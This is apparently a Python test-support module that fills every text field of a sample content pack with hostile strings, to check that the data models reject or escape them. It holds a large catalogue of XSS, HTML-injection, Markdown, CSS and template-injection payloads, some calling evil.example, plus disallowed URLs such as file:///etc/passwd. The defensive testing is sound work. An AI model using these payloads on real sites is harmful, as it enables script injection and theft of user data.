"""Strings that try to be more than text, and packs that hold them in every field that takes them."""

from __future__ import annotations

from collections.abc import Iterator
from copy import deepcopy
from typing import Any, NamedTuple, get_args

import packs
from ldn_content.model import CLASSES, base
from ldn_content.model.base import Model
from ldn_content.model.manifest import Manifest

RUN = "top.__ran=1"
"""What each of them wants to be done."""
HOSTILE = (
    # elements that run
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script/x>",
    f"<script\u00a0>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</pre><script>{RUN}</script>",
    f"</article></main><script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,top.__ran=1></script>",
    f"<script type=module>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    # event handlers
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\u00a0={RUN}>",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<image src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<a autofocus tabindex=1 onfocus={RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data=x onerror={RUN}>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<x onanimationstart={RUN} style=animation:x>",
    f"<div onmouseover={RUN} style=position:fixed;inset:0>x</div>",
    f"<p onclick={RUN}>x</p>",
    # frames, objects, forms, addresses of the page
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc=&lt;script&gt;{RUN}&lt;/script&gt;></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed src=data:image/svg+xml,%3Csvg%20onload=top.__ran=1%3E>",
    f"<form action=javascript:{RUN}><input type=submit>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex type=image src=1 onerror={RUN}>",
    "<base href=https://evil.example/>",
    f"<base href=javascript:{RUN}//>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<img src=https://evil.example/x.png>",
    "<img srcset=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png>",
    "<portal src=https://evil.example/></portal>",
    # links
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=&#106;avascript:{RUN}>x</a>",
    f"<a href=java&Tab;script:{RUN}>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==",
    # out of an attribute, a comment, a section
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus={RUN} tabindex=1 x="',
    f"` onmouseover=`{RUN}`",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    "<!--",
    "<plaintext>",
    "<textarea>",
    "</p></li></ul></article>",
    "<",
    "<a",
    "&",
    # character references
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#0000060script>{RUN}</script>",
    f"&ltscript>{RUN}",
    f"&quot;><script>{RUN}</script>",
    f"&NewLine;&#0;<script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    # letters that look alike, and letters that are not seen
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u200dipt>{RUN}</scr\u200dipt>",
    f"<\u200cscript>{RUN}</script>",
    f"java\u200dscript:{RUN}",
    f"\u02b9\u02ba\u2039script\u203a{RUN}",
    f"<ſcript>{RUN}</ſcript>",
    # templates
    "{{7*7}}",
    "{{constructor.constructor('top.__ran=1')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% import os %}{{ os.popen('id').read() }}",
    "{0.__class__.__mro__} {} {0} {name!r} %s %(x)d",
    "[[${7*7}]] @{7*7} *{7*7} ~{x}",
    # Markdown
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}> 'title')",
    f"[x][y] [y]: javascript:{RUN}",
    f"![x](https://evil.example/x.png)<script>{RUN}</script>",
    f"<javascript:{RUN}>",
    f'![x](x"onerror="{RUN})',
    f"`code` ``` <script>{RUN}</script> ```",
    f"# h > q - l 1. n * * * <b onclick={RUN}>*x*</b> | a | ~~s~~",
    f"\\<script>{RUN}\\</script> \\",
    f"[x]: javascript:{RUN}",
    "https://evil.example/x www.evil.example mail@evil.example",
    # CSS
    "</style><style>*{background:url(https://evil.example/x)}</style>",
    "<style>@import'https://evil.example/x';</style>",
    f"<div style=\"background:url('javascript:{RUN}')\">x</div>",
    f'<x style="x:expression({RUN})">',
    "}*{background:url(//evil.example/x)}",
    # JSON and scripts
    f'"}}</script><script>{RUN}</script>',
    f'","x":"</script ><script>{RUN}</script>',
    f"<!--<script>{RUN}</script>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"*/{RUN}/*",
    f"`;{RUN};`",
    # what a sanitizer or a second parser makes of it
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><set onbegin={RUN}></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<form><math><mtext></form><form><mglyph><style><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<option><style></option></select><img src=x onerror={RUN}>",
    # for many places at once
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f'\'">><marquee><img src=x onerror={RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=1>',
    f"\"'--></style></script></title><svg onload={RUN}>${{{RUN}}}{{{{{RUN}}}}}",
    # names that pages give to their own things
    "<img name=body><form id=document><input name=cookie>",
    "__proto__",
    "constructor",
    "<slot name=x></slot><x-element is=y>",
)
UNFIT = (
    f"<script>\n{RUN}</script>",
    f"x\u202e<script>{RUN}",
    "x\x00y",
    "\u2028",
    "x\x1b]0;y\x07",
    f" <script>{RUN}",
    "\ufeff<b>",
    "\ud800",
)
"""What no field takes: line ends, control and direction characters, white space at an end, half a character."""
ADDRESSES = (
    "https://example.org/#javascript:top.__ran=1",
    "https://example.org/?x=%22%3E%3Cscript%3Etop.__ran=1%3C/script%3E",
    "https://example.org/&quot;onmouseover=top.__ran=1",
    "https://example.org/)[x](javascript:top.__ran=1)",
    "https://example.org/_*~|!]{{7*7}}${7*7}",
    "https://example.org/&lt;script&gt;&Tab;&#106;",
    "https://javascript:top.__ran=1@example.org/",
    "https://example.org/%0a%0d%00/..//evil",
    "https://example.org/\u200d\u3002é/ü",
)
"""Addresses that the models take."""
NO_ADDRESSES = (
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    "data:text/html,x",
    "vbscript:x",
    "//evil.example/",
    "/x",
    f'https://example.org/"onmouseover={RUN}',
    f"https://example.org/'onmouseover={RUN}",
    "https://example.org/<script>",
    "https://example.org/\\x",
    "https://example.org/`x`",
    "https://example.org/ x",
    f"https://example.org/\njavascript:{RUN}",
    "ftp://example.org/",
    "file:///etc/passwd",
    "blob:https://example.org/x",
)

_TEXTS = frozenset({base.Text, base.Short, base.ShortCaution})
COMPUTED = frozenset({("Code", "curie"), ("Condition", "defined_by"), ("Derived", "unit"), ("DerivedInput", "unit")})
"""Fields of text that take only what is computed or listed."""


_WAIVER = {"code": "LDN101", "entry": "term/dud", "reason": "x", "expires": "2027-01"}
_DERIVED = {"value": 45, "unit": "x", "operation": "sum", "inputs": [{"part": "knee-trial#study", "figure": 45, "unit": "x"}]}


class Place(NamedTuple):
    """A text in a file of a pack.

    Attributes:
        file: its name.
        path: the keys and places that lead to it.
        model: the name of the model that has it.
        field: its name.
    """

    file: str
    path: tuple[str | int, ...]
    model: str
    field: str


def text_fields(model: type[Model], seen: set[type[Model]] | None = None) -> Iterator[tuple[str, str, type]]:
    """Yield every field of a model, and of those in it, that holds text: model, field, and the type of the text."""
    seen = set() if seen is None else seen
    if model in seen:
        return
    seen.add(model)
    for name, field in model.model_fields.items():
        for held in _held(field.annotation):
            if isinstance(held, type) and issubclass(held, Model):
                yield from text_fields(held, seen)
            elif isinstance(held, type) and "__get_pydantic_core_schema__" in vars(held):
                yield model.__name__, name, held


def is_free(text: type) -> bool:
    """Whether a type of text is any text, and not one that a pattern describes."""
    return text in _TEXTS


def whole() -> packs.Files:
    """The small pack, with a text in every field that takes one."""
    files = packs.small()
    reviewed = {"month": "2026-11", "clinical": "reviewed", "reviewer": "x"}
    files["pack.json"] |= {"review": reviewed, "waivers": [_WAIVER]}
    for name, data in files.items():
        if name != "pack.json":
            data |= {"aliases": [*data.get("aliases", ()), "x"], "search_words": ["x"], "review": dict(reviewed)}
    files["caveats/opioids.json"]["derived"] = [deepcopy(_DERIVED)]
    files["claim-reviews/ldn-mends-knees.json"]["derived"] = [deepcopy(_DERIVED)]
    for claim in files["conditions/sore-knee.json"]["claims"]:
        claim |= {"plain": "x", "clinical": "x", "derived": [deepcopy(_DERIVED)]}
    for claim in (
        files["topics/knee-doses.json"]["sections"][0]["claims"][0],
        files["questions/does-it-help-knees.json"]["answer"][1],
    ):
        claim |= {"plain": "x", "clinical": "x"}
    for item in ("caveats/joints.json", "caveats/knee-hidden.json", "caveats/one-trial.json"):
        files[item]["clinical"] = "x"
    trial = files["sources/knee-trial.json"]
    trial |= dict.fromkeys(("publisher", "volume", "issue", "pages", "funding"), "x")
    trial |= {"disagreements": ["x"], "counting": {"condition": "sore-knee"}}
    trial["study"] |= {"dose": "x", "status": "x"}
    trial["study"]["arms"][1]["dose"] = "x"
    files["sources/uncounted-trial.json"] = {
        **{field: trial[field] for field in ("kind", "type", "dose_class", "checked", "link_kind")},
        "id": "uncounted-trial",
        "title": "x",
        "url": "https://example.org/uncounted",
        "counting": {"not_because": "x"},
    }
    return files


def places(files: packs.Files) -> tuple[Place, ...]:
    """Every text in the files that any text may stand for, in order."""
    found = []
    for name, data in files.items():
        made = (Manifest if name == "pack.json" else CLASSES[data["kind"]]).model_validate(data)
        found += [Place(name, *item) for item in _walked(made, ())]
    return tuple(found)


def spoilt(files: packs.Files, text: str, address: str) -> packs.Files:
    """The files with a text at each place, and an address on each source."""
    made = deepcopy(files)
    for place in places(files):
        target: Any = made[place.file]
        for key in place.path[:-1]:
            target = target[key]
        target[place.path[-1]] = text
    for data in made.values():
        if data["kind"] == "source":
            data["url"] = address
    return made


def _walked(made: Model, path: tuple[str | int, ...]) -> Iterator[tuple[tuple[str | int, ...], str, str]]:
    """Yield where the texts of a model are that was made."""
    for name, field in type(made).model_fields.items():
        if name not in made.model_fields_set or (type(made).__name__, name) in COMPUTED:
            continue
        value, free = getattr(made, name), any(is_free(held) for held in _held(field.annotation))
        for key, item in enumerate(value) if isinstance(value, tuple) else [(None, value)]:
            here = (*path, name) if key is None else (*path, name, key)
            if isinstance(item, Model):
                yield from _walked(item, here)
            elif isinstance(item, str) and free:
                yield here, type(made).__name__, name


def _held(annotation: Any) -> Iterator[Any]:
    """Yield the types at the bottom of an annotation."""
    inner = get_args(annotation)
    if not inner:
        yield annotation
    for item in inner:
        yield from _held(item)
